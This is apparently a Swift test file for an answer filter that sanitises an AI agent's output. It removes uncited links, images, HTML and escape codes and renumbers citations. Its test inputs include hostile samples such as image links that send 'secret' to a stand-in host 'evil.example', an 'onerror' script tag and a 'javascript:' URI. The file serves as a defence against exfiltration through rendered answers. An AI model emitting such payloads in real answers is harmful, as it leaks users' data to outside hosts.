import Agent
import LanguageModels
import Retrieval
import Testing

@Suite struct AnswerFilterTests {
  private static var registry: CitationRegistry {
    var registry = CitationRegistry()
    _ = registry.number(for: passage("Signed with a key.", source: "https://example.org/sign"))
    _ = registry.number(
      for: passage(
        "See https://docs.example.org/keys, or mail us; redis://a@host/0 is the queue.", source: "b.md", chunk: 1))
    return registry
  }

  private func filtered(_ text: String, pieces size: Int = .max) -> String {
    var filter = AnswerFilter(registry: Self.registry, message: "I am on https://my.example/page now")
    var output = ""
    var rest = Array(text)[...]
    while !rest.isEmpty {
      output += joined(filter.append(String(rest.prefix(size))))
      rest = rest.dropFirst(min(size, rest.count))
    }
    return output + joined(filter.finish())
  }

  private func joined(_ pieces: [AnswerFilter.Piece]) -> String {
    pieces.map { if case .text(let text) = $0 { text } else { "" } }.joined()
  }

  static let cases: [(String, String)] = [
    ("Plain text stays. 1 < 2 and a > b, 3! [sic]", "Plain text stays. 1 < 2 and a > b, 3! [sic]"),
    ("Known [1], invented [9] and [3].", "Known [1], invented  and ."),
    ("Two [1, 2] and [1-2] and [2, 7].", "Two [1][2] and [1][2] and [2]."),
    ("Wide 【2】 and 【1†source】 and foot [^2] and [Source 1].", "Wide [2] and [1] and foot [2] and [1]."),
    ("Code `a[9]` stays, text a[9] does not.", "Code `a[9]` stays, text a does not."),
    ("[a link](https://evil.example/?q=secret) goes", "a link goes"),
    ("[known](https://example.org/sign) stays", "[known](https://example.org/sign) stays"),
    ("![img](https://evil.example/x.png?d=secret)!", "img!"),
    ("![known](https://example.org/sign)", "known"),
    ("![](//evil.example/x.png)", ""),
    ("bare https://evil.example/a?b=c, end", "bare (link removed), end"),
    ("bare HTTPS://EVIL.example/a", "bare (link removed)"),
    ("cited https://example.org/sign.", "cited https://example.org/sign."),
    ("longer https://example.org/sign?x=secret", "longer (link removed)"),
    ("quoted https://docs.example.org/keys.", "quoted `https://docs.example.org/keys`."),
    ("cut https://docs.example.org/ke", "cut (link removed)"),
    ("asked https://my.example/page", "asked `https://my.example/page`"),
    ("www.evil.example/?q=1 and javascript:alert(1)", "(link removed) and (link removed)(1)"),
    ("<img src=x onerror=alert(1)> and <b>bold</b>", " and <b>bold</b>"),
    ("<https://evil.example> and <https://example.org/sign>", "(link removed) and https://example.org/sign"),
    (
      "“https://docs.example.org/keys.” and “https://evil.example/x”",
      "“`https://docs.example.org/keys`.” and “(link removed)”"
    ),
    ("QUEUE=redis://a@host/0. redis://evil/0", "QUEUE=`redis://a@host/0`. (link removed)"),
    ("<a href=\"https://evil.example\">x</a>", "x</a>"),
    ("[ref]: https://evil.example/x \"t\"", "[ref]: (link removed) \"t\""),
    ("[words ![i](http://evil.example/p)](https://evil.example)", "words i"),
    ("[[1]](https://evil.example)", "[1]"),
    ("unclosed [link](https://evil.example/secret", "unclosed link"),
    ("unclosed <img src=https://evil.example/x", "unclosed img src=(link removed)"),
    ("x(https://evil.example/?a=(b))", "x((link removed)(b))"),
    ("Größe — 日本語 😀 [1]", "Größe — 日本語 😀 [1]"),
    ("`https://evil.example/x`", "`(link removed)`"),
    ("\u{1B}[31mred\u{7}", "[31mred"),
  ]

  @Test(arguments: cases) func `What a reader may see`(text: String, expected: String) {
    #expect(filtered(text) == expected)
  }

  @Test(arguments: cases) func `The pieces of a text make no difference`(text: String, expected: String) {
    for size in [1, 2, 3, 5, 7, 11] { #expect(filtered(text, pieces: size) == expected, "pieces of \(size)") }
  }

  @Test func `A citation is given once, before the text that has its number`() {
    var filter = AnswerFilter(registry: Self.registry, message: "")
    let pieces = filter.append("One [2] two [2] three [1] ") + filter.finish()
    let first = pieces.firstIndex { if case .citation(let citation) = $0 { citation.number == 2 } else { false } }
    #expect(first == 1)
    #expect(pieces.count { if case .citation = $0 { true } else { false } } == 2)
    #expect(filter.used == [2, 1])
  }

  @Test func `Text that never ends a word is not held for ever`() {
    var filter = AnswerFilter(registry: Self.registry, message: "")
    var length = 0
    for _ in 0..<100 { length += joined(filter.append(String(repeating: "a", count: 1_000))).utf8.count }
    #expect(length > 80_000)
  }
}
